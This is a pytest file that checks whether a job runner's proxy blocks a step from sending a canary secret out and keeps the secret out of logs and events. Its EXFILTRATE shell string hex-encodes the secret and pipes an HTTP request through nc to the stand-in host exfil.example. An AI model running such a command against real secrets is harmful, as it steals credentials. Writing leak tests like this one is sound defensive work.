"""The leak canary under `--network allow`: a step that tries to send its secret out.

The canary spec prints the value every way it can; here each step also sends
it through the job's proxy, to an allowed test server in the URL's query and
to a host that is not allowed in the path, while the watcher looks at every
container and process. runner's own output, files, events and the proxy's
command line must hold none of it; the refused host is reported by name and
port only.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.attack_support import (
    CANARY,
    LocalCanary,
    Watcher,
    canary_spec,
    events_of,
    leak_forms,
    run_cli,
)
from tests.helpers import make_repo
from tests.test_egress import serve

pytestmark = [pytest.mark.docker, pytest.mark.slow]


# In hex (one of the value's registered forms), so that the URLs are valid and reach the proxy.
# Sent to the proxy by the shell's own printf, never on a command line: the watcher reads
# every process's, and a step's own wget there would be the step's doing, not runner's.
# The pause keeps the request's side open until the proxy has answered. (Braces doubled:
# the text is formatted with the test server's port.)
def _send(url: str) -> str:
    request = "printf 'GET %s HTTP/1.0\\r\\n\\r\\n' \"" + url + '"; sleep 1;'
    return "{{ " + request + " }} | nc -w 5 ${{p%:*}} ${{p##*:}} >/dev/null 2>&1; "


EXFILTRATE = (
    "h=$(printf '%s' \"$CANARY\" | od -An -tx1 -v | tr -d ' \\n'); p=${{HTTP_PROXY#http://}}; "
    + _send("http://testhost:{port}/up?t=$h")
    + _send("http://exfil.example/$h")
    + "echo tried"
)


def test_allow_runs_the_canary_with_zero_hits(tmp_path: Path, docker_client: Any) -> None:
    local = LocalCanary.make(tmp_path)
    repos = tmp_path / "repos"
    make_repo(repos, "github.com/acme/app", {"README.md": "# app\n"})
    local.set_secret("CANARY", CANARY, "--user=alice")
    forms = leak_forms([CANARY])
    with serve("127.0.0.1") as port:
        spec_text = canary_spec(title="egress", repositories=["github.com/acme/app"])
        # Each step also tries to send the value out through the proxy.
        spec_text = spec_text.replace(
            "  - run: |\n", "  - run: |\n      " + EXFILTRATE.format(port=port) + "\n"
        )
        spec = tmp_path / "specs" / "egress.yaml"
        spec.parent.mkdir()
        spec.write_text(spec_text)
        with Watcher(forms) as watcher:
            proc = run_cli(
                [
                    "run",
                    str(spec),
                    "--repos-root",
                    str(repos),
                    "--out",
                    str(local.out),
                    "--json",
                    "--network",
                    "allow",
                    "--allow-host",
                    f"testhost:{port}",
                    "--add-host",
                    "testhost:127.0.0.1",
                ],
                local.env,
            )
    assert watcher.containers_seen, "the watcher never saw a step container"
    assert proc.returncode == 0, proc.stderr
    events = events_of(proc.stdout)
    lines = [e["line"] for e in events if e["event"] == "step.output"]
    assert lines.count("tried") == 2 and "plain [REDACTED:CANARY]" in lines
    denied = [e for e in events if e["event"] == "step.egress_denied"]
    assert [(e["step"], e["host"], e["port"]) for e in denied] == [
        (1, "exfil.example", 80),
        (2, "exfil.example", 80),
    ]
    summary = json.loads((local.out / "summary.json").read_text())
    assert summary["egress_denied"] == 2

    local.assert_no_leaks(proc.stdout.encode() + proc.stderr.encode(), watcher, forms, spec.parent)
